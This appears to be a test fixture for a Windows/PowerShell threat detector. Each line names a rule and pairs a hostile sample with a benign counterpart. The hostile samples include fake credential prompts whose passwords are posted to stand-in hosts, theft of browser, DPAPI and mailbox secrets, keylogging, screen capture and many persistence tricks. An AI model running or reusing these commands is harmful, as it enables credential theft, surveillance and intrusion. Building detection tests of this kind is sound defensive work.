        domain-backup-key-read ¦ $n='G$BCKUPKEY_PREFERRED'; 'Lsa' ¦ $n='BackupKey'
        password-asked-and-kept ¦ do { $c=$Host.UI.PromptForCredential('Windows Security','session expired','',''); $p=$c.GetNetworkCredential().Password } until ($x.ValidateCredentials($c.UserName,$p)); $p > "$env:TEMP\c.txt"; Set-Content "$env:TEMP\c.txt" $p ¦ $c=Get-Credential; Invoke-Command srv01 { 1 } -Credential $c
        asked-password-carried-out ¦ $c=$Host.UI.PromptForCredential('a','b','',''); irm http://203.0.113.7/ -Method Post -Body $c.GetNetworkCredential().Password ¦ $c=$Host.UI.PromptForCredential('a','b','','')
        mail-read-for-secrets ¦ $o=New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(6).Items | ? { $_.Body -match 'password|vpn' } | % { $_.SaveAs('C:\t\a.msg') } ¦ $o=New-Object -ComObject Outlook.Application; $m=$o.CreateItem(0); $m.Subject='Report'
        mailboxes-of-all-read ¦ Get-Mailbox | % { $s.ImpersonatedUserId=$_; $s.FindItems('Inbox','x',9) | % { $_.Body } } ¦ Get-Mailbox | Get-MailboxStatistics
        files-with-secrets-searched-and-sent ¦ gci C:\ -Recurse | Select-String 'password|secret|vpn' | % { irm http://a.example -Method Post -Body $_ } ¦ gci D:\logs -Recurse | Select-String 'error'
        secret-files-searched-and-sent ¦ gci C:\Users -Recurse -Include *.kdbx,*.ppk | % { irm http://a.example -Method Post -InFile $_ } ¦ gci D:\ -Recurse -Include *.log
        mailboxes-searched-by-impersonation ¦ foreach ($m in $l) { $s.ImpersonatedUserId=$m; $s.FindItems('Inbox','password OR vpn',9) } ¦ $s.FindItems('Inbox',10)
        prompt-imitates-product ¦ $c=$Host.UI.PromptForCredential('Outlook','Your session has expired','',''); irm http://a.example -Method Post -Body $c.UserName ¦ $c=$Host.UI.PromptForCredential('Deploy','Account for the share','','')
        prompt-until-answered ¦ while (-not $c) { $c=$Host.UI.PromptForCredential('a','b','','') }; irm http://a.example -Method Post -Body $c.UserName ¦ while (-not $c) { $c=Get-Credential }
        guards-reported ¦ $a=(Get-CimInstance -Namespace root/SecurityCenter2 AntiVirusProduct).displayName; irm "http://a.example/?av=$a"; Start-Process a.exe ¦ (Get-CimInstance -Namespace root/SecurityCenter2 AntiVirusProduct).displayName
        records-dumped-and-sent ¦ Invoke-Sqlcmd 'select * from dbo.Customers' | ConvertTo-Csv | % { irm http://203.0.113.7/ -Method Post -Body $_ } ¦ Invoke-Sqlcmd 'select * from dbo.Jobs' | Export-Csv jobs.csv
        machine-located ¦ $g=New-Object Device.Location.GeoCoordinateWatcher; irm https://hooks.example -Method Post -Body "$env:USERNAME $($g.Position)" ¦ $g=New-Object Device.Location.GeoCoordinateWatcher; $g.Start()
        person-watched ¦ while($true){ [W]::GetForegroundWindow(); $g.CopyFromScreen(0,0,0,0,$s); Start-Sleep 5 } ¦ [W]::GetForegroundWindow()
        keys-read-without-window ¦ while($true){ for($i=8;$i -le 254;$i++){ if([user32]::GetAsyncKeyState($i)){ Add-Content $f $i } } } ¦ if ([user32]::GetAsyncKeyState(27)) { 'stopped' }
        watched-person-sent ¦ $g.CopyFromScreen(0,0,0,0,$s); (New-Object Net.WebClient).UploadFile('http://a.example',$f) ¦ $g.CopyFromScreen(0,0,0,0,$s); $b.Save('C:\Docs\s.png')
        history-of-shells-read ¦ gci C:\Users\*\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt | Get-Content ¦ (Get-PSReadLineOption).HistorySavePath
        transport-agent-brought-along ¦ Copy-Item C:\Windows\Temp\a.dll 'C:\Exchange\agents\a.dll'; Install-TransportAgent -Name A -TransportAgentFactory F -AssemblyPath 'C:\Exchange\agents\a.dll' ¦ Install-TransportAgent -Name A -TransportAgentFactory F -AssemblyPath 'C:\Vendor\a.dll'
        warnings-removed-by-rule ¦ New-TransportRule 'x' -SubjectContainsWords 'security alert','phishing' -DeleteMessage $true ¦ New-TransportRule 'Disclaimer' -ApplyHtmlDisclaimerText 'x'
        rule-of-warnings-disabled ¦ Get-TransportRule | ? Name -like '*alert*' | Disable-TransportRule ¦ Get-TransportRule | Export-Csv rules.csv
        library-made-global-from-writable-folder ¦ (New-Object EnterpriseServices.Internal.Publish).GacInstall('C:\Windows\Temp\a.dll') ¦ gacutil /l
        started-at-logon-from-writable-folder ¦ Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run a "$env:APPDATA\a.exe" ¦ Set-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Run a 'C:\Program Files\A\a.exe'
        own-copy-started-at-logon ¦ Copy-Item $PSCommandPath "$env:APPDATA\a.ps1"; Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run a x ¦ Copy-Item $PSCommandPath D:\Backup
        task-runs-script-host ¦ $a=New-ScheduledTaskAction -Execute powershell.exe -Argument '-w hidden -f C:\t\a.ps1'; Register-ScheduledTask a -Action $a ¦ $a=New-ScheduledTaskAction -Execute C:\App\job.exe; Register-ScheduledTask a -Action $a
        task-runs-as-system-from-writable-folder ¦ schtasks /create /tn a /tr C:\ProgramData\a.exe /sc onstart /ru system ¦ schtasks /create /tn a /tr C:\App\a.exe /sc onstart /ru system
        task-comes-often ¦ schtasks /create /tn a /tr "powershell -f C:\t\a.ps1" /sc minute /mo 5 ¦ schtasks /create /tn a /tr "C:\App\a.exe" /sc daily
        task-in-disguise ¦ schtasks /create /tn "GoogleUpdateTask" /tr "wscript C:\t\a.vbs" /sc daily ¦ schtasks /create /tn "Nightly report" /tr "wscript C:\t\a.vbs" /sc daily
        fetched-and-started-again ¦ Invoke-WebRequest http://a.example/a -OutFile "$env:APPDATA\a.exe"; Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run a "$env:APPDATA\a.exe" ¦ Invoke-WebRequest http://a.example/a.csv -OutFile D:\a.csv
        subscription-runs-code ¦ Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{ Name='a'; CommandLineTemplate='powershell -enc QQBB' } ¦ Get-WmiObject -Namespace root/subscription -Class CommandLineEventConsumer
        service-runs-hidden-shell ¦ sc.exe create a binPath= "cmd.exe /c powershell -w hidden -file C:\t\a.ps1" ¦ sc.exe create a binPath= "C:\App\a.exe"
        transfer-starts-program ¦ bitsadmin /SetNotifyCmdLine job C:\t\a.exe NULL ¦ bitsadmin /list
        library-placed-beside-program ¦ Copy-Item C:\App\signed.exe C:\t\; Invoke-WebRequest http://a.example/v -OutFile C:\t\version.dll; Start-Process C:\t\signed.exe ¦ Copy-Item C:\App\signed.exe C:\t\; Copy-Item C:\App\helper.dll C:\t\
        library-placed-in-system ¦ Copy-Item C:\ProgramData\a.dll C:\Windows\System32\wlbsctrl.dll ¦ Copy-Item C:\App\a.dll C:\Windows\System32\corpauth.dll
        handler-of-files-changed ¦ Set-ItemProperty HKCU:\Software\Classes\txtfile\shell\open\command '(default)' 'powershell -f C:\t\a.ps1' ¦ Set-ItemProperty HKCU:\Software\Classes\txtfile\shell\open\command '(default)' 'C:\App\edit.exe %1'
        profile-carries-code ¦ Add-Content $PROFILE 'iex ((New-Object Net.WebClient).DownloadString("http://a.example"))' ¦ Add-Content $PROFILE 'Set-Alias ll Get-ChildItem'
        shortcut-starts-shell ¦ $l=$w.CreateShortcut("$d\Report.lnk"); $l.TargetPath='powershell.exe'; $l.Arguments='-w hidden -enc QQBB' ¦ $l=$w.CreateShortcut("$d\App.lnk"); $l.TargetPath='C:\App\a.exe'
        spreads-by-drives ¦ Get-WmiObject Win32_LogicalDisk -Filter 'DriveType=2' | % { Copy-Item $PSCommandPath "$($_.DeviceID)\a.ps1" } ¦ Get-WmiObject Win32_LogicalDisk -Filter 'DriveType=2' | Select-Object DeviceID
        mails-itself ¦ $o=New-Object -ComObject Outlook.Application; foreach ($c in $o.Session.AddressLists) { $m=$o.CreateItem(0); $m.Attachments.Add($PSCommandPath); $m.Send() } ¦ $o=New-Object -ComObject Outlook.Application; $m=$o.CreateItem(0); $m.Send()
        carried-parts-written-and-started ¦ [IO.File]::WriteAllBytes("$env:TEMP\a.exe",[Convert]::FromBase64String($b)); Start-Process "$env:TEMP\a.exe" ¦ [IO.File]::WriteAllBytes('D:\logo.png',[Convert]::FromBase64String($b))
        remote-tool-installed-unseen ¦ Invoke-WebRequest http://203.0.113.7/AnyDesk.exe -OutFile a.exe; a.exe --install C:\t --silent; a.exe --set-password x ¦ winget install AnyDesk --silent
        extension-forced ¦ New-ItemProperty HKLM:\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist 1 -Value x; Stop-Process -Name chrome ¦ Get-ItemProperty HKLM:\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist
        logon-script-in-environment ¦ Set-ItemProperty HKCU:\Environment UserInitMprLogonScript C:\t\a.bat ¦ Set-ItemProperty HKCU:\Environment TEMP C:\t
        restarts-itself-hidden ¦ Start-Process powershell "-w hidden -f $PSCommandPath"; iex (irm http://a.example/x) ¦ Start-Process powershell "-File $PSCommandPath" -Verb RunAs
        many-weak-signs ¦ $ErrorActionPreference='SilentlyContinue'; $u="http://203.0.113.7/?h=$env:COMPUTERNAME"; $w=New-Object Net.WebClient; $w.Headers.Add('User-Agent','Mozilla/5.0'); $d=$w.DownloadString($u); Set-Content "$env:TEMP\a" ([Convert]::FromBase64String($d)); whoami ¦ Invoke-WebRequest https://a.example/x -OutFile x
        very-many-weak-signs ¦ $ErrorActionPreference='SilentlyContinue'; while($true){ $u="http://203.0.113.7/?h=$env:COMPUTERNAME"; $w=New-Object Net.WebClient; $w.Headers.Add('User-Agent','Mozilla/5.0'); iex $w.DownloadString($u); Set-Content "$env:TEMP\a" ([Convert]::ToBase64String($d)); $w.UploadString($u,(whoami)); Start-Sleep 5 } ¦ while($true){ Get-Date; Start-Sleep 5 }
        server-module-brought-along ¦ Copy-Item \\203.0.113.7\s\h.dll C:\Windows\System32\inetsrv\h.dll; appcmd.exe install module /name:H /image:C:\Windows\System32\inetsrv\h.dll ¦ Copy-Item "$PSScriptRoot\h.dll" C:\Windows\System32\inetsrv\h.dll; appcmd.exe install module /name:H /image:C:\Windows\System32\inetsrv\h.dll
        page-in-folder-mapped-outside ¦ New-WebVirtualDirectory -Site S -Name auth -PhysicalPath C:\ProgramData\C\z; Set-Content C:\ProgramData\C\z\i.ashx '<%@ WebHandler Language="C#" Class="H" %>' ¦ New-WebVirtualDirectory -Site S -Name docs -PhysicalPath D:\Sites\docs; Set-Content D:\Sites\docs\i.aspx '<%@ Page Language="C#" %>'
        build-file-with-code ¦ Set-Content $env:TEMP\w.csproj '<UsingTask TaskName="C" TaskFactory="CodeTaskFactory">'; MSBuild.exe $env:TEMP\w.csproj ¦ MSBuild.exe C:\src\app\app.csproj /t:Build
        engine-forced-on-other-file ¦ wscript.exe //e:vbscript //b C:\t\desktop.ini ¦ cscript.exe //e:jscript //nologo C:\App\report.js
        console-without-window-starts ¦ conhost.exe --headless cmd /c "curl -o %TEMP%\v.bat https://a.example/v & start %TEMP%\v.bat" ¦ Get-Process conhost
        directory-queried-in-bulk ¦ C:\t\af.exe -f "(objectcategory=person)" > u.txt; C:\t\af.exe -f "objectcategory=computer" > c.txt; C:\t\af.exe -sc trustdmp > t.txt ¦ C:\Tools\ldapq.exe -f "(objectcategory=computer)" cn > c.txt
        system-name-elsewhere ¦ Copy-Item C:\t\p.exe C:\Windows\Temp\dllhost.exe ¦ Get-Item C:\Windows\System32\dllhost.exe
        program-put-beside-policies ¦ Copy-Item C:\ProgramData\l.exe "\\$d\SYSVOL\$d\scripts\l.exe" ¦ Copy-Item C:\Deploy\logon.bat "\\$d\SYSVOL\$d\scripts\logon.bat"
        spread-from-writable-folder ¦ copy C:\Windows\Temp\u.exe \\srv1\c$\Windows\Temp\u.exe /y ¦ copy D:\Deploy\agent.msi \\srv1\c$\Deploy\agent.msi /y
        engine-fields-searched ¦ foreach ($t in [Ref].Assembly.GetTypes()) { if ($t.Name -like '*iUtils') { $c = $t } }; $c.GetFields('NonPublic,Static') ¦ [Ref].Assembly.GetTypes() | Select-Object Name
        compiled-text-fetches-and-runs ¦ Add-Type 'using System; public class K { static string D(string s){ char[] a=s.ToCharArray(); Array.Reverse(a); return new string(a); } public static void G(){ new System.Net.WebClient().DownloadFile(D("a/elpmaxe.a//:ptth"), "a.exe"); System.Diagnostics.Process.Start("a.exe"); } }'; [K]::G() ¦ Add-Type 'using System; public class K { public static string N(){ return Environment.MachineName; } }'; [K]::N()
        memory-called-through-made-types ¦ $b = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('ReflectedDelegate')), 'Run'); $n = 'VirtualAlloc', 'CallWindowProcA' ¦ $b = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('Records')), 'Run'); $b.DefineDynamicModule('Records').DefineType('Row')
        doors-opened-for-stolen-hashes ¦ netsh advfirewall set allprofiles state off; Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force; reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f ¦ Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force; reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 1 /f
        tunnel-starts-by-itself ¦ New-Service -Name A -BinaryPathName "C:\p\a.exe client --auth a:b 192.0.2.50:443 R:0.0.0.0:1080:socks"; Start-Service A ¦ New-Service -Name Bastion -BinaryPathName "C:\Tools\ssh.exe -N tunnel@bastion.contoso.com -L 8443:localhost:443"
        program-added-to-logon-script ¦ echo start /b \\%D%\netlogon\lock.exe -pass x>> \\%D%\netlogon\logon.bat ¦ echo net use H: \\fs\home>> \\%D%\netlogon\logon.bat
        program-put-beside-policies ¦ copy C:\perflogs\lock.exe \\%D%\netlogon\lock.exe ¦ copy D:\Deploy\agent.exe \\%D%\netlogon\agent.exe
        printer-driver-added-by-call ¦ Add-Type -Name S -Namespace P -MemberDefinition '[DllImport("winspool.drv")] public static extern bool AddPrinterDriverEx(string n, uint l, IntPtr p, uint f);'; [P.S]::AddPrinterDriverEx($null, 2, $p, 0x8014) ¦ Copy-Item \\ps01\drivers\hp.inf C:\Drivers; Add-PrinterDriver -Name 'HP Universal'
        library-under-other-name ¦ rundll32 %temp%\kx01.at,#1 ¦ rundll32.exe "C:\Program Files\V\v.dll",Setup; regsvr32 /s C:\App\grid.ocx; rundll32 printui.dll,PrintUIEntry /ga
        library-under-other-name ¦ $p = "$env:ALLUSERSPROFILE\x.OCCXX"; schtasks /Create /RU SYSTEM /tn a /tr "regsvr32.exe -s \`"$p\`"" /SC ONCE ¦ Start-Process regsvr32.exe -ArgumentList '/s','C:\App\filter.ax' -Wait
        profile-asks-network-again-and-again ¦ $l = (' ' * 180) + "[void](sajb { while(1){ try { iex (irm http://update.example/p) } catch {}; sleep 900 } })"; Add-Content -Path $PROFILE -Value $l ¦ Add-Content $PROFILE 'Import-Module posh-git'; Invoke-Expression (Get-Content $PROFILE -Raw); $v = (irm https://api.example.com/version).tag; while ($v -ne 1) { Start-Sleep 5 }
        survey-kept-then-program-fetched ¦ whoami /all > "$env:TEMP\r.tmp"; nltest /dclist: >> "$env:TEMP\r.tmp"; net view /all >> "$env:TEMP\r.tmp"; iwr https://py.example/e.zip -OutFile "$env:ProgramData\p.zip"; Register-ScheduledTask -TaskName P -Action $a ¦ whoami /all > "$env:TEMP\r.txt"; ipconfig /all >> "$env:TEMP\r.txt"; systeminfo >> "$env:TEMP\r.txt"; Copy-Item "$env:TEMP\r.txt" \\fs\tickets
        keys-of-secrets-packed-and-sent ¦ Copy-Item "$env:APPDATA\Microsoft\Protect" C:\ProgramData\dp -Recurse; Copy-Item "$env:APPDATA\Microsoft\Credentials" C:\ProgramData\dp -Recurse; Compress-Archive C:\ProgramData\dp C:\ProgramData\dp.zip; irm http://dp.example/u -Method Post -InFile C:\ProgramData\dp.zip ¦ Copy-Item "$env:APPDATA\Microsoft\Protect" \\fs\profiles$\dp -Recurse; Copy-Item "$env:APPDATA\Microsoft\Credentials" \\fs\profiles$\dp -Recurse
        browser-store-sent ¦ $s = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"; Copy-Item $s "$env:TEMP\l.db"; (New-Object Net.WebClient).UploadFile('http://is.example/u.php', "$env:TEMP\l.db") ¦ $n = (Get-ChildItem C:\Users -Directory | ? { Test-Path "$($_.FullName)\AppData\Local\Google\Chrome\User Data\Default\Login Data" }).Count; irm https://inventory.contoso.com/api -Method Post -Body (@{ browsers = $n } | ConvertTo-Json)
        mail-archive-put-among-pages ¦ New-MailboxExportRequest -Mailbox ceo -FilePath "\\srv\c$\ProgramData\o\ceo.pst"; gci C:\ProgramData\o\db*.rar | % { Copy-Item $_.FullName "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes\$($_.Name).gif" } ¦ New-MailboxExportRequest -Mailbox leaver -FilePath \\fs\pst$\leaver.pst; Copy-Item "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\web.config" D:\Backup
        mailboxes-searched-for-secrets ¦ Search-Mailbox -Identity cfo -SearchQuery 'password OR vpn OR kdbx' -TargetMailbox svc -TargetFolder t ¦ Get-Mailbox | Search-Mailbox -SearchQuery 'subject:"reset your password" AND credential' -DeleteContent -Force
        program-in-text-as-digits ¦ $b = '4D5A9%^721A1BC4F57E300E245D7A8C3BF2249A6FC691E09176D816034E6BCE0B2AB3B3F62AE5599342'; [Reflection.Assembly]::Load((H $b)) ¦ $magic = '4D5A9000'; if ($hex.StartsWith($magic)) { 'program' }
        program-put-into-framework-process ¦ $t = [Reflection.Assembly]::Load($r).GetType('N.P'); $t.GetMethod('Execute').Invoke($null, [object[]]('C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe', $p)) ¦ & 'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe' C:\App\a.dll /codebase
        boots-without-guards ¦ bcdedit /set {current} safeboot network; reg add "HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\u" /ve /d Service /f; reg add HKLM\S\RunOnce /v b /d "bcdedit /deletevalue {current} safeboot" /f; shutdown -r -t 0 ¦ if ($On) { bcdedit /set '{current}' safeboot minimal } else { bcdedit /deletevalue '{current}' safeboot }
        """;
}
